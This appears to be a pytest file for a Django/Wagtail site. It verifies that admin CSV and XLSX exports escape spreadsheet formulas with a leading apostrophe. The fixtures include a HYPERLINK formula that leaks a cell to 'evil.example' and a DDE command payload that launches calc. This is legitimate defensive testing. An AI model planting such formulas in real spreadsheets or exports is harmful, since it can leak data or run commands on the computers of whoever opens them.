"""Admin exports (CSV and XLSX) never hand a spreadsheet a formula: text starting with = + - @
(or a tab or carriage return) comes out with a leading apostrophe."""

import csv
import io
import uuid

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from alliance.figures import Dataset, Row, to_csv
from home.spreadsheets import SafeSpreadsheetExportMixin, safe_cell
from search.models import SearchQueryCount
from trainings.models import Enrolment

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ana")'


@pytest.fixture
def enrolment(db):
    trainee = get_user_model().objects.create_user(
        username="ana@example.org", email="ana@example.org", first_name=FORMULA
    )
    return Enrolment.objects.create(
        user=trainee, course_key=uuid.uuid4(), course_title="@SUM(1+1) Circular denim"
    )


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_enrolment_csv_export_neutralises_formulas(admin_client, enrolment):
    response = admin_client.get("/admin/enrolments/", {"export": "csv"})
    assert response.status_code == 200
    (row,) = csv_rows(response)
    assert row["Trainee"] == "'" + FORMULA
    assert row["Course"] == "'@SUM(1+1) Circular denim"
    assert row["E-mail"] == "ana@example.org"  # ordinary text is left alone


def test_enrolment_xlsx_export_neutralises_formulas(admin_client, enrolment):
    response = admin_client.get("/admin/enrolments/", {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    header, values = list(workbook.active.iter_rows(values_only=True))
    row = dict(zip(header, values, strict=True))
    assert row["Trainee"] == "'" + FORMULA
    assert row["Course"] == "'@SUM(1+1) Circular denim"
    assert row["Lessons completed"] == 0  # numbers stay numbers


def test_search_report_export_neutralises_formulas(admin_client):
    SearchQueryCount.objects.create(
        query_string="+cmd|' /c calc'!a0", language="en", date=timezone.localdate(), searches=2
    )
    response = admin_client.get(reverse("search_reports:frequent"), {"export": "csv"})
    (row,) = csv_rows(response)
    assert row["Search terms"] == "'+cmd|' /c calc'!a0"


def test_wagtail_site_history_export_neutralises_a_page_title(admin_client, admin_user, home_page):
    from django.urls import resolve

    from tests.factories.home import StandardPageFactory

    page = StandardPageFactory(parent=home_page, title="=HYPERLINK(1)")
    page.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    url = reverse("wagtailadmin_reports:site_history")
    assert resolve(url).url_name == "hub_site_history"  # ours, at Wagtail's path
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(1)" in body
    assert ",=HYPERLINK" not in body
    # The report itself still answers, for the admin and only for admin users.
    assert admin_client.get(url).status_code == 200
    admin_client.logout()
    assert admin_client.get(url).status_code == 302


def test_figures_csv_neutralises_formulas():
    data = Dataset(
        key="topics",
        title="Practices by topic",
        description="",
        label_heading="Topic",
        value_heading="Practices",
        rows=[Row("a", "-2+3 repair", 4), Row("b", "Dyeing", 2)],
    )
    rows = list(csv.reader(io.StringIO(to_csv(data).lstrip("\ufeff"))))
    assert rows[1:] == [["'-2+3 repair", "4"], ["Dyeing", "2"]]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana", "Ana"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def test_every_export_of_the_hub_goes_through_safe_cell(client):
    from wagtail.admin.viewsets import viewsets

    client.get(reverse("wagtailadmin_home"))  # loads every app's admin hooks, views and viewsets
    ours = [
        view
        for view in _subclasses(SpreadsheetExportMixin)
        if not view.__module__.startswith(("wagtail.", "wagtail_localize."))
    ]
    exporting_viewsets = [
        viewset.index_view_class
        for viewset in viewsets.viewsets
        if getattr(viewset, "list_export", viewset.UNDEFINED) not in (viewset.UNDEFINED, [], ())
    ]
    assert ours and exporting_viewsets, "no export views found"
    unsafe = {
        view.__qualname__
        for view in ours + exporting_viewsets
        if not issubclass(view, SafeSpreadsheetExportMixin)
    }
    assert unsafe == set()
